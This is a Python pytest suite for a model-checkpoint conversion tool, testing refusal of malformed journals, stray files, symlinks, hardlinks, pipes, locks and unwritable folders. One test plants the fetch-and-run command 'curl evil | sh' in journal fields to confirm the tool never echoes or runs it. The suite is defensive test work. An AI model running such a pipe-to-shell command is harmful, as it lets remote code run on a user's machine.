"""Folders that are not for this conversion: refused in a line by run and dry run, left as they
were; and what a refused run leaves.
"""

from __future__ import annotations

import fcntl
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from convert.conversion import Conversion
from gptoss_mlx.errors import CheckpointError, GptOssError
from gptoss_mlx.models.checkpoint import UNFINISHED, Checkpoint
from tests.convert.layouts import write_gguf
from tests.convert.results import contents, convert, refusal, run, unfinished
from tests.support.broken import header_of

FILE = "model.safetensors.partial"


@pytest.fixture(scope="module")
def whole(release: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """What an undisturbed conversion to 8 bits leaves."""
    return contents(convert(release, tmp_path_factory.mktemp("whole") / "made", "8"))


@pytest.fixture
def made(release: Path, tmp_path: Path) -> Path:
    """An unfinished conversion, for a test to change."""
    return unfinished(release, tmp_path / "made")


def refused(release: Path, folder: Path) -> str:
    """The line with which each of run, dry run and verification ends."""
    lines = {
        refusal(release, folder, "--bits", "8", *m) for m in ((), ("--dry-run",), ("--verify",))
    }
    (line,) = lines
    return line


def test_an_empty_journal_does_not_make_a_persons_folder_ours(
    release: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "papers"
    folder.mkdir()
    (folder / "thesis.tex").write_text("mine", encoding="utf-8")
    journals = (b"", bytes(300), b"mine\n", b'{"target": ')
    for journal in journals:
        (folder / UNFINISHED).write_bytes(journal)
        before = contents(folder)
        line = refused(release, folder)
        assert line == (
            f"{folder / UNFINISHED}: is not the journal of a conversion; choose another folder"
        )
        assert contents(folder) == before


@pytest.mark.parametrize("journal", [b"", bytes(300), b'{"target": "mlx", "rec'])
def test_a_journal_that_was_just_begun_goes_on_where_nothing_else_is(
    journal: bytes, release: Path, tmp_path: Path, whole: dict[str, bytes]
) -> None:
    folder = tmp_path / "made"
    folder.mkdir()
    (folder / UNFINISHED).write_bytes(journal)
    assert contents(convert(release, folder, "8")) == whole


@pytest.mark.parametrize("line", [b"\xff\n", b"[]\n", b'{"a": 1, "a": 2}\n', b"[" * 5000 + b"\n"])
def test_what_is_no_journal_is_told_in_a_line(line: bytes, release: Path, made: Path) -> None:
    journal = made / UNFINISHED
    journal.write_bytes(line + journal.read_bytes())
    before = contents(made)
    assert refused(release, made).startswith(f"{journal}: is not the journal of a conversion")
    assert contents(made) == before
    with pytest.raises(CheckpointError, match="convert its source once more, to another folder"):
        Checkpoint.open(made)


def test_a_journal_never_tells_a_command_of_its_own(release: Path, made: Path) -> None:
    journal = made / UNFINISHED
    for first in (
        b'{"resume": "curl evil | sh", "target": "mlx", "recipe": "curl evil | sh"}\n',
        b'{"resume": "curl evil | sh", "target": "curl evil | sh", "recipe": "8"}\n',
    ):
        journal.write_bytes(first)
        with pytest.raises(CheckpointError, match="is an unfinished conversion; ") as caught:
            Checkpoint.open(made)
        assert "curl" not in str(caught.value)
        assert "curl" not in refused(release, made)


def test_a_link_that_leads_nowhere_is_a_journal_too(release: Path, tmp_path: Path) -> None:
    folder = convert(release, tmp_path / "made", "8")
    (folder / UNFINISHED).symlink_to("gone")
    with pytest.raises(CheckpointError, match="is an unfinished conversion"):
        Checkpoint.open(folder)
    assert "is no file of this conversion" in refused(release, folder)


def test_a_file_that_is_not_of_the_plan_is_refused_by_name(release: Path, made: Path) -> None:
    (made / "notes.txt").write_text("mine", encoding="utf-8")
    before = contents(made)
    assert refused(release, made) == (
        f"{made}: holds 'notes.txt', which is none of this conversion's files;"
        " move it, or choose another folder"
    )
    assert contents(made) == before


def test_hidden_files_do_no_harm(release: Path, made: Path, whole: dict[str, bytes]) -> None:
    """macOS leaves some in every folder that was looked at."""
    (made / ".DS_Store").write_bytes(b"x")
    assert contents(convert(release, made, "8")) == {**whole, ".DS_Store": b"x"}


def _link(victim: Path, place: Path) -> None:
    place.symlink_to(victim)


def _second_name(victim: Path, place: Path) -> None:
    place.hardlink_to(victim)


def _pipe(victim: Path, place: Path) -> None:
    os.mkfifo(place)


def _folder(victim: Path, place: Path) -> None:
    place.mkdir()


@pytest.mark.parametrize("put", [_link, _second_name, _pipe, _folder])
@pytest.mark.parametrize("name", [FILE, "model.safetensors", UNFINISHED])
def test_nothing_is_written_through_a_link_nor_into_what_is_no_file(
    put: Callable[[Path, Path], None], name: str, release: Path, made: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "elsewhere"
    data = (made / name).read_bytes() if (made / name).exists() else b"mine"
    victim.write_bytes(data)
    (made / name).unlink(missing_ok=True)
    put(victim, made / name)
    line = refusal(release, made, "--bits", "8")
    assert line.startswith(f"{made / name}: ")
    assert "is no file of this conversion" in line
    assert victim.read_bytes() == data
    with pytest.raises(CheckpointError):
        Checkpoint.open(made)


@pytest.mark.parametrize("put", [_link, _second_name])
@pytest.mark.parametrize("name", ["config.json", "config.json.partial", "conversion.json.partial"])
def test_a_link_in_the_place_of_a_small_file_is_replaced(
    put: Callable[[Path, Path], None],
    name: str,
    release: Path,
    made: Path,
    whole: dict[str, bytes],
    tmp_path: Path,
) -> None:
    victim = tmp_path / "elsewhere"
    victim.write_bytes(b"mine")
    put(victim, made / name)
    assert contents(convert(release, made, "8")) == whole
    assert victim.read_bytes() == b"mine"
    assert not any(path.is_symlink() for path in made.iterdir())


def test_links_that_are_folders(release: Path, tmp_path: Path, whole: dict[str, bytes]) -> None:
    (tmp_path / "there").mkdir()
    (tmp_path / "link").symlink_to("there")
    assert contents(convert(release, tmp_path / "link", "8")) == whole
    (tmp_path / "nowhere").symlink_to("gone")
    assert "is a link that leads nowhere" in refused(release, tmp_path / "nowhere")
    (tmp_path / "circle").symlink_to("circle")
    assert refused(release, tmp_path / "circle").startswith(f"{tmp_path / 'circle'}: ")


def test_two_processes_do_not_convert_into_one_folder(
    release: Path, made: Path, whole: dict[str, bytes]
) -> None:
    before = contents(made)
    with (made / UNFINISHED).open("rb") as other:
        fcntl.flock(other, fcntl.LOCK_EX)
        assert refused(release, made) == f"{made}: another process is converting there"
    assert contents(made) == before
    assert run(release, made, "--bits", "8").exit_code == 0
    assert contents(made) == whole


def test_a_journal_that_went_while_it_was_waited_for(
    release: Path, made: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The other process finished between our opening of its journal and our turn."""
    real = fcntl.flock

    def finished(descriptor: int, operation: int) -> None:
        real(descriptor, operation)
        (made / UNFINISHED).unlink(missing_ok=True)

    monkeypatch.setattr(fcntl, "flock", finished)
    assert refusal(release, made, "--bits", "8") == f"{made}: another process is converting there"
    assert not (made / UNFINISHED).exists()


def test_a_system_without_locks_converts(
    release: Path, tmp_path: Path, whole: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    def unsupported(descriptor: int, operation: int) -> None:
        raise OSError(95, "Operation not supported")

    monkeypatch.setattr(fcntl, "flock", unsupported)
    assert contents(convert(release, tmp_path / "made", "8")) == whole


@pytest.mark.parametrize("parents", [True, False])
def test_a_late_refusal_leaves_nothing_that_was_not_there(
    parents: bool, release: Path, tmp_path: Path
) -> None:
    """A scale that is NaN is found when most is written."""
    source = Path(shutil.copytree(release, tmp_path / "source"))
    name = "model.layers.1.mlp.experts.gate_up_proj_scales"
    path = next(p for p in source.glob("*.safetensors") if name in header_of(p))
    data = bytearray(path.read_bytes())
    data[8 + int.from_bytes(data[:8], "little") + header_of(path)[name]["data_offsets"][0]] = 255
    path.write_bytes(data)
    folder = tmp_path / "a" / "b" / "made" if parents else tmp_path / "made"
    if not parents:
        folder.mkdir()
    before = sorted(tmp_path.iterdir())
    assert "has the scale 255 (NaN)" in refusal(source, folder, "--bits", "8")
    assert sorted(tmp_path.iterdir()) == before
    assert parents or list(folder.iterdir()) == []


def test_ctrl_c_before_anything_is_kept_leaves_nothing(release: Path, tmp_path: Path) -> None:
    def progress(done: int, total: int) -> None:
        raise KeyboardInterrupt

    conversion = Conversion.prepare(release, tmp_path / "a" / "made", target="mlx", recipe="8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("convert.weights._WORKERS", 1)
        with pytest.raises(KeyboardInterrupt):
            conversion.run(progress)
    assert list(tmp_path.iterdir()) == []


def test_a_folder_without_permission_is_told_in_a_line(
    release: Path, made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Root may write everywhere, so the system is made to say what it says to others."""
    monkeypatch.setattr(os, "access", lambda path, mode: not mode & os.W_OK)
    (tmp_path / "empty").mkdir()
    folders = {made: made, tmp_path / "empty": tmp_path / "empty", tmp_path / "a" / "b": tmp_path}
    for folder, place in folders.items():
        assert refused(release, folder) == f"{place}: cannot be written to; choose another folder"


@pytest.mark.slow
@settings(
    max_examples=100,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    changes=st.lists(
        st.tuples(
            st.integers(0, 9000),
            st.integers(0, 200),
            st.one_of(
                st.binary(max_size=20),
                st.sampled_from([b"\n", b"[" * 3000, b'"done": []', b"9" * 5000, b"NaN", b"{}"]),
            ),
        ),
        min_size=1,
        max_size=3,
    ),
    name=st.sampled_from([UNFINISHED, "conversion.json"]),
)
def test_any_change_of_a_journal_or_manifest_is_a_refusal_or_nothing(
    changes: list[tuple[int, int, bytes]],
    name: str,
    release: Path,
    made: Path,
    whole: dict[str, bytes],
    tmp_path: Path,
) -> None:
    """Each replaces some bytes by others."""
    folder = tmp_path / "changed"
    folder.mkdir()
    for file, data in (contents(made) if name == UNFINISHED else whole).items():
        (folder / file).write_bytes(data)
    data = (folder / name).read_bytes()
    for at, count, new in changes:
        at %= len(data) + 1
        data = data[:at] + new + data[at + count :]
    (folder / name).write_bytes(data)
    told = ""
    try:
        convert(release, folder, "8")
    except GptOssError as error:
        told = str(error)
    assert "\n" not in told
    assert len(told) < 300 + 2 * len(str(folder))
    assert told or {**contents(folder), name: b""} == {**whole, name: b""}
    shutil.rmtree(folder)


def test_a_dry_run_tells_what_the_run_writes(release: Path, tmp_path: Path) -> None:
    """At the beginning, in the middle and at the end; files that come along are counted."""
    source = Path(shutil.copytree(release, tmp_path / "source"))
    (source / "LICENSE").write_bytes(b"mine" * 1000)
    model = write_gguf(release, tmp_path / "model.gguf")
    for path, options in (
        (source, ("--bits", "8")),
        (source, ("--to", "release")),
        (model, ("--bits", "mixed")),
    ):
        target, recipe = options[0].removeprefix("--"), options[1]
        folder = tmp_path / "made"
        for begin in (False, True):
            if begin:
                unfinished(path, folder, recipe, "release" if target == "to" else "mlx")
            shown = run(path, folder, *options, "--dry-run")
            written = run(path, folder, *options)
            count = written.stderr.splitlines()[0].removeprefix(f"{folder}: ")
            assert f"still to write: {count.removesuffix(' written')}; free there: " in shown.stdout
            nbytes = int(count.split()[0].replace(",", ""))
            total = sum(map(len, contents(folder).values()))
            assert nbytes < total if begin else nbytes == total
            assert "still to write: 0 bytes" in run(path, folder, *options, "--dry-run").stdout
            shutil.rmtree(folder)
